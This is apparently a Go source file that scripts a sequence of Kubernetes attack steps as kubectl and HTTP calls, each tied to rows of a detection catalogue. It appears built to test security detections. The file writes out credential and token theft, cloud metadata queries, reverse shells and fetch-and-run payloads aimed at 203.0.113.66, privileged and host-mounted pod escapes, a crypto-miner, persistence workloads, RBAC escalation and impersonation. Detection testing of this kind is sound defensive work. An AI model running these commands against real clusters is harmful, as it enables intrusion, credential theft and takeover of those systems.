package main

import (
	"fmt"
	"time"
)

// facts are what the attacks must know about the cluster.
type facts struct {
	csr     csr
	nodeUID string // of node-2
}

const (
	browser = "Mozilla/5.0 (X11; Linux x86_64)"
	curling = "curl/8.5.0"
	python  = "python-requests/2.32.3"
)

// attacks are all steps, in order. Rows are those of the catalogue of detections.
func attacks(f facts) []step {
	var all []step
	for _, act := range [][]step{inside(), pods(), workloads(), rights(), identities(f), secrets(), outside(), network(), traces(f)} {
		all = append(all, act...)
	}
	return all
}

// inside is what somebody does in containers that run already.
func inside() []step {
	exec := func(r []int, words ...string) step { return kubectl(r, trent, "exec -n shop tools --").more(words...) }
	return []step{
		exec(rows(1), "ls", "-la", "/"),
		kubectl(rows(1), trent, "attach -n shop tools").within(5 * time.Second).either(),
		kubectl(rows(1, 2), trent, "exec -n kube-system deploy/coredns -- id"),
		exec(rows(1, 3), "cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"),
		exec(rows(1, 3), "cat", "/etc/shadow"),
		exec(rows(1, 3), "sh", "-c", "find / -name id_rsa -o -name .aws -o -name .kube 2>/dev/null; cat /root/.ssh/id_rsa"),
		exec(rows(1, 4), "curl", "-s", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
		exec(rows(1, 4), "wget", "-qO-", "--header", "Metadata-Flavor: Google", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"),
		exec(rows(1, 5), "bash", "-c", "bash -i >& /dev/tcp/203.0.113.66/4444 0>&1"),
		exec(rows(1, 5), "python3", "-c", `import socket,subprocess,os;s=socket.socket();s.connect(("203.0.113.66",4444));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])`),
		exec(rows(1, 5), "sh", "-c", "nc -e /bin/sh 203.0.113.66 4444"),
		exec(rows(1, 6), "curl", "-fsSL", "-o", "/tmp/x", "http://203.0.113.66/x"),
		exec(rows(1, 6), "sh", "-c", "wget -q http://203.0.113.66/x.sh -O- | sh"),
		kubectl(rows(1, 7), trent, "cp shop/tools:/etc/passwd ./passwd").either(),
		kubectl(rows(1, 7), trent, "cp ./tool shop/tools:/tmp/tool").either(),
		kubectl(rows(8), trent, "port-forward -n shop pod/tools :8080").within(4 * time.Second).either(),
		kubectl(rows(9), trent, "debug -n shop tools --image=docker.io/library/busybox:1.36 --target=tools -- sleep 1"),
		kubectl(rows(10), trent, "get --raw /api/v1/nodes/node-1/proxy/pods"),
		curl(rows(10), trent, "10.8.0.21", curling, "POST /api/v1/nodes/node-1/proxy/run/shop/tools/tools?cmd=id", 0),
		curl(rows(10), trent, "10.8.0.21", curling, "GET /api/v1/nodes/node-1/proxy/exec/shop/tools/tools?command=id&input=1&output=1&tty=0", 0),
	}
}

// pod is a pod's manifest; container and spec are more fields of its container and of itself.
func podManifest(ns, name, container, spec string) string {
	return fmt.Sprintf(`{apiVersion: v1, kind: Pod, metadata: {name: %s, namespace: %s}, spec: {terminationGracePeriodSeconds: 1, `+
		`containers: [{name: c, image: "registry.example.test/tools/shell:1"%s}]%s}}`, name, ns, container, spec)
}

func disk(path string) (container, spec string) {
	return `, volumeMounts: [{name: v, mountPath: /v}]`, `, volumes: [{name: v, hostPath: {path: ` + path + `}}]`
}

// pods is what somebody does to get out of containers.
func pods() []step {
	apply := func(r []int, name, container, spec string) step {
		return kubectl(r, trent, "apply -f -").in(podManifest("shop", name, container, spec))
	}
	volume := func(r []int, name, path string) step {
		container, spec := disk(path)
		return apply(r, name, container, spec)
	}
	deployment := `{apiVersion: apps/v1, kind: Deployment, metadata: {name: agent, namespace: shop}, spec: {selector: {matchLabels: {app: agent}}, template: {metadata: ` +
		`{labels: {app: agent}}, spec: {containers: [{name: c, image: "registry.example.test/tools/agent:1", securityContext: {privileged: true}}]}}}}`
	return []step{
		apply(rows(11), "privileged", `, securityContext: {privileged: true}`, ""),
		apply(rows(11), "privileged-init", "", `, initContainers: [{name: i, image: "registry.example.test/tools/shell:1", securityContext: {privileged: true}}]`),
		kubectl(rows(11), trent, "apply -f -").in(deployment),
		apply(rows(12), "capable", `, securityContext: {capabilities: {add: [SYS_ADMIN]}}`, ""),
		apply(rows(12), "capable-net", `, securityContext: {capabilities: {add: [NET_ADMIN, SYS_PTRACE]}}`, ""),
		volume(rows(13), "disk", "/data"),
		volume(rows(13, 14), "disk-root", "/"),
		volume(rows(13, 14), "disk-kubelet", "/var/lib/kubelet"),
		volume(rows(13, 14), "disk-socket", "/run/containerd/containerd.sock"),
		apply(rows(15), "host-network", "", ", hostNetwork: true"),
		apply(rows(16), "host-pid", "", ", hostPID: true"),
		apply(rows(17), "host-ipc", "", ", hostIPC: true"),
		kubectl(rows(13, 14, 15, 16, 17, 19), trent, "debug node/node-1 --image=docker.io/library/busybox:1.36 -- sleep 1"),
		kubectl(rows(18), trent, "run helper -n kube-system --image=registry.example.test/tools/shell:1"),
		kubectl(rows(18), trent, "run helper -n kube-public --image=registry.example.test/tools/shell:1"),
		kubectl(rows(19), trent, "run helper -n default --image=registry.example.test/tools/shell:1"),
		kubectl(rows(20, 21, 26), trent, "run miner -n team-a --image=docker.io/kinsing/xmrig:latest"),
		kubectl(rows(25), trent, "apply -f -").in(podManifest("kube-system", "controller", "", ", serviceAccountName: daemon-set-controller")),
	}
}

// workloads are things that stay.
func workloads() []step {
	set := `{apiVersion: apps/v1, kind: DaemonSet, metadata: {name: everywhere, namespace: shop}, spec: {selector: {matchLabels: {app: everywhere}}, template: {metadata: ` +
		`{labels: {app: everywhere}}, spec: {containers: [{name: c, image: "registry.example.test/tools/agent:1"}]}}}}`
	sidecar := `{"spec":{"template":{"spec":{"containers":[{"name":"logger","image":"registry.example.test/tools/logger:1"}]}}}}`
	return []step{
		kubectl(rows(22), trent, "apply -f -").in(set),
		kubectl(rows(23), trent, "create cronjob backup -n shop --image=registry.example.test/tools/shell:1 --schedule=*/5").more("* * * *").join(),
		kubectl(rows(23), trent, "create job once -n shop --image=registry.example.test/tools/shell:1 -- /bin/true"),
		kubectl(rows(24), trent, "patch deployment web -n shop --type=strategic -p").more(sidecar),
		kubectl(rows(26), trent, "create deployment updater -n shop --image=docker.io/library/updater:0.0.1"),
		kubectl(rows(27), trent, "apply -f -").in(manifest("webhook")),
		kubectl(rows(27), trent, "patch mutatingwebhookconfiguration pod-helper --type=json -p").more(`[{"op":"replace","path":"/webhooks/0/timeoutSeconds","value":2}]`),
		kubectl(rows(27), trent, "delete mutatingwebhookconfiguration pod-helper"),
	}
}

// join makes one word of the last two: a cron schedule has spaces.
func (s step) join() step {
	n := len(s.args)
	s.args = append(s.args[:n-2:n-2], s.args[n-2]+" "+s.args[n-1])
	return s
}

// rights is what somebody does to have more of them.
func rights() []step {
	const deployer = "system:serviceaccount:shop:deployer"
	return []step{
		kubectl(rows(28, 29), trent, "create clusterrolebinding helper --clusterrole=cluster-admin --user="+mallory),
		kubectl(nil, trent, "delete clusterrolebinding helper"), // or mallory would be refused nothing below
		kubectl(rows(29), trent, "create rolebinding helper -n shop --clusterrole=view --user=eve@example.test"),
		kubectl(rows(29, 30), trent, "create clusterrolebinding open-writers --clusterrole=pod-writer --user=system:anonymous"),
		kubectl(rows(29, 30), trent, "create clusterrolebinding open-readers --clusterrole=view --group=system:unauthenticated"),
		kubectl(rows(29, 30), trent, "create clusterrolebinding all-readers --clusterrole=view --group=system:authenticated"),
		kubectl(rows(28, 29, 31, 32), trent, "create clusterrolebinding defaults --clusterrole=cluster-admin --serviceaccount=default:default"),
		kubectl(rows(29, 32), trent, "create rolebinding app-view -n shop --clusterrole=view --serviceaccount=shop:default"),
		kubectl(rows(33), trent, "create clusterrole everything --verb=* --resource=*.*"),
		kubectl(rows(33), trent, "create role all-here -n shop --verb=* --resource=pods"),
		kubectl(rows(34), trent, "create clusterrole climber --verb=escalate,bind --resource=clusterroles.rbac.authorization.k8s.io"),
		kubectl(rows(34), trent, "create clusterrole actor --verb=impersonate --resource=users,groups,serviceaccounts"),
		kubectl(rows(35), trent, "create role writer -n shop --verb=create,update,patch,delete --resource=deployments.apps"),
		kubectl(rows(36), trent, "create role shell -n shop --verb=create,get --resource=pods/exec"),
		kubectl(rows(37), trent, "create clusterrole nodes-through --verb=get,create --resource=nodes/proxy"),
		kubectl(rows(33, 38), trent, "patch role reader -n shop --type=json -p").more(`[{"op":"add","path":"/rules/-","value":{"apiGroups":["*"],"resources":["*"],"verbs":["*"]}}]`),
		kubectl(rows(39), trent, "patch clusterrole system:basic-user --type=json -p").more(`[{"op":"add","path":"/rules/-","value":{"apiGroups":["coordination.k8s.io"],"resources":["leases"],"verbs":["update"]}}]`),
		kubectl(rows(39), trent, "delete clusterrole system:example-aggregator"),
		kubectl(rows(29, 40), deployer, "create rolebinding more -n shop --clusterrole=edit --serviceaccount=shop:default"),
		kubectl(rows(41), trent, "create rolebinding release -n team-a --clusterrole=edit --user="+trent),
		kubectl(rows(41), trent, "create deployment release -n team-a --image=registry.example.test/tools/agent:1"),
	}
}

// identities is how somebody becomes somebody else, and stays it.
func identities(f facts) []step {
	const arc = "system:serviceaccount:azure-arc:azure-arc-kube-aad-proxy-sa"
	request := fmt.Sprintf(`{"apiVersion": "certificates.k8s.io/v1", "kind": "CertificateSigningRequest", "metadata": {"name": "intruder"}, "spec": {"request": %q, `+
		`"signerName": "kubernetes.io/kube-apiserver-client", "usages": ["client auth"]}}`, base64Text(f.csr.request))
	legacy := `{apiVersion: v1, kind: Secret, metadata: {name: deployer-forever, namespace: shop, annotations: {kubernetes.io/service-account.name: deployer}}, type: kubernetes.io/service-account-token}`
	return []step{
		kubectl(rows(42), trent, "create serviceaccount helper -n kube-system"),
		kubectl(rows(42), trent, "create serviceaccount helper -n shop"),
		kubectl(rows(43), trent, "create token deployer -n shop"),
		kubectl(rows(43), trent, "create token daemon-set-controller -n kube-system --duration=24h"),
		kubectl(rows(44, 53), trent, "apply -f -").in(legacy),
		kubectl(rows(45), trent, "create -f -").in(request),
		kubectl(rows(45), trent, "certificate approve intruder"),
		kubectl(rows(55), arc, "get secret db-1 -n shop --as=user@aad.example.test --as-group=platform"),
		kubectl(rows(65), trent, "get nodes --as=admin-of-old --as-group=system:masters"),
		kubectl(rows(65), trent, "get secrets -n shop --as=system:kube-controller-manager").either(),
		kubectl(rows(65), trent, "get pods -n kube-system --as=system:admin").either(),
	}
}
